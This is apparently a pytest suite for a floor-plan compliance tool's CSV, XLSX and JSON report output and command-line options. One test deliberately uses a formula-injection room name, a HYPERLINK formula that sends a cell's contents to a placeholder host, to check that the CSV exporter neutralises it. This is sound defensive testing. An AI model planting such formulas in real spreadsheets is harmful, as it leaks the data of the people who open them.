"""Findings as a table: CSV (UTF-8 with BOM, safe from formula injection), XLSX, batch
findings.csv; the command line's choice of format; rounding in the JSON report."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from floorplan.cli import cli
from floorplan.io.csvsafe import csv_text, safe_cell

SAMPLES = Path(__file__).parents[1] / "samples"
# 4 m x 3 m, the ceiling rising from 0.9 m to 2.4 m across the 3 m: the 1.5 m line is
# 1.2 m in, so 4 x 1.8 = 7.2 m² is counted, under the 8 m² a bedroom needs
ATTIC = {
    "type": "FeatureCollection",
    "floorplan": {"name": "Attic", "scheme": "shared_house", "tenants": 1},
    "features": [
        {"type": "Feature", "properties": {"kind": "room", "id": "B3", "name": "Bedroom 3 — Ærø"},
         "geometry": {"type": "Polygon", "coordinates": [[[0, 0], [4, 0], [4, 3], [0, 3], [0, 0]]]}},
        {"type": "Feature", "properties": {"kind": "ceiling", "heights": [0.9, 0.9, 2.4, 2.4, 0.9]},
         "geometry": {"type": "Polygon", "coordinates": [[[0, 0], [4, 0], [4, 3], [0, 3], [0, 0]]]}},
    ],
}


def run(*args, input=None):
    return CliRunner().invoke(cli, list(args), input=input, catch_exceptions=False)


@pytest.fixture
def attic(tmp_path) -> Path:
    f = tmp_path / "attic.geojson"
    f.write_text(json.dumps(ATTIC, ensure_ascii=False), encoding="utf-8")
    return f


def _csv_rows(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+A1", "'+A1"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("Bedroom 1", "Bedroom 1"), (-0.5, -0.5), (3, 3), (None, ""),
])
def test_cells_that_would_run_as_formulas_become_text(value, cell):
    assert safe_cell(value) == cell


def test_csv_reporter_one_row_per_finding(attic, tmp_path):
    out = tmp_path / "findings.csv"
    res = run("check", str(attic), "--output", str(out))  # the extension chooses CSV
    assert res.exit_code == 1
    rows = _csv_rows(out.read_bytes())
    assert list(rows[0])[:11] == ["plan", "dwelling", "room", "code", "name", "status", "measured",
                                  "required", "unit", "reference", "message"]
    report = json.loads(run("check", str(attic), "--format", "json").stdout)
    assert len(rows) == len(report["findings"])
    [area] = [r for r in rows if r["code"] == "FP101"]
    assert (area["room"], area["status"], area["unit"]) == ("Bedroom 3 — Ærø", "fail", "m²")
    assert float(area["measured"]) == pytest.approx(7.2)
    assert float(area["required"]) == pytest.approx(8.0)
    assert area["plan"] == "Attic" and area["room_ids"] == "B3"


def test_csv_neutralises_a_hostile_room_name(tmp_path):
    plan = json.loads(json.dumps(ATTIC))
    plan["features"][0]["properties"]["name"] = '=HYPERLINK("http://x/?"&A1,"click")'
    f = tmp_path / "evil.geojson"
    f.write_text(json.dumps(plan))
    res = run("check", str(f), "--format", "csv")
    rows = _csv_rows(res.stdout_bytes)
    rooms = {r["room"] for r in rows if r["room"]}
    assert rooms and all(r.startswith("'=") for r in rooms)
    assert not any(v.startswith("=") for r in rows for v in r.values())


def test_xlsx_opens_with_the_same_rows_and_is_reproducible(attic, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert run("check", str(attic), "-o", str(a)).exit_code == 1
    assert run("report", str(attic), "-o", str(b)).exit_code == 1
    assert a.read_bytes() == b.read_bytes()
    ws = openpyxl.load_workbook(a)["Findings"]
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, (c.value for c in r), strict=True)) for r in ws.iter_rows(min_row=2)]
    [area] = [r for r in rows if r["code"] == "FP101"]
    assert area["status"] == "fail" and area["measured"] == pytest.approx(7.2)
    assert isinstance(area["measured"], float)  # a number Excel can sum, not text


def test_batch_writes_findings_csv_across_plans(tmp_path):
    out = tmp_path / "out"
    res = run("batch", str(SAMPLES / "oak-house.geojson"), str(SAMPLES / "birch-court.geojson"),
              "--output", str(out), "--jobs", "1", "--no-images")
    assert res.exit_code == 1
    rows = _csv_rows((out / "findings.csv").read_bytes())
    files = {r["plan_file"] for r in rows}
    assert files == {str(SAMPLES / "oak-house.geojson"), str(SAMPLES / "birch-court.geojson")}
    for name in ("oak-house", "birch-court"):
        report = json.loads((out / "reports" / f"{name}.json").read_text())
        assert sum(r["plan_file"].endswith(f"{name}.geojson") for r in rows) == len(report["findings"])
    assert (out / "summary.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_text_is_the_default_even_through_a_pipe(attic, tmp_path):
    res = run("check", str(attic))  # CliRunner's stdout is not a terminal
    assert res.stdout.startswith("Attic\n") and "RESULT: NOT MET" in res.stdout
    out = tmp_path / "r.json"
    run("check", str(attic), "-o", str(out))
    assert json.loads(out.read_text())["plan"]["name"] == "Attic"
    txt = tmp_path / "r.out"  # an extension that names no format: text
    run("check", str(attic), "-o", str(txt))
    assert txt.read_text().startswith("Attic\n")


def test_binary_formats_need_a_file(attic):
    res = run("check", str(attic), "--format", "xlsx")
    assert res.exit_code == 2 and "--output" in res.stderr


def test_quiet_prints_nothing_and_keeps_the_exit_status(attic):
    res = run("check", str(attic), "-q")
    assert (res.exit_code, res.stdout) == (1, "")


def test_layer_map_on_geojson_warns(attic, tmp_path):
    m = tmp_path / "layers.toml"
    m.write_text("[layers]\n")
    res = run("check", str(attic), "--layer-map", str(m), "-q")
    assert res.exit_code == 1
    assert "warning" in res.stderr and "--layer-map" in res.stderr


def test_a_folder_of_plans_suggests_batch(tmp_path):
    (tmp_path / "a.geojson").write_text(json.dumps(ATTIC))
    res = run("check", str(tmp_path))
    assert res.exit_code == 2
    assert "floorplan batch" in res.stderr and len(res.stderr.strip().splitlines()) == 1


def test_json_numbers_are_rounded_to_the_micrometre():
    res = run("check", str(SAMPLES / "oak-house.geojson"), "--format", "json")
    d = json.loads(res.stdout)
    en_suite = next(r for r in d["rooms"] if r["id"] == "G2")
    assert en_suite["area_m2"] == 6.5  # 2.5 m x 2.6 m, not 6.499999999999999

    def floats(v):
        if isinstance(v, float):
            yield v
        elif isinstance(v, dict):
            for x in v.values():
                yield from floats(x)
        elif isinstance(v, list):
            for x in v:
                yield from floats(x)

    assert all(round(x, 6) == x for x in floats(d))


def test_csv_text_header_and_line_ends():
    text = csv_text(["a", "b"], [{"a": "x", "b": 1.5}, ["=y", None]])
    assert text == "\ufeffa,b\r\nx,1.5\r\n'=y,\r\n"


def test_a_dxf_on_standard_input_is_told_stdin_takes_geojson():
    dxf = (SAMPLES / "oak-house.dxf").read_text(encoding="utf-8", errors="replace")
    res = run("check", "-", input=dxf)
    assert res.exit_code == 2
    assert "GeoJSON" in res.stderr and "DXF" in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1
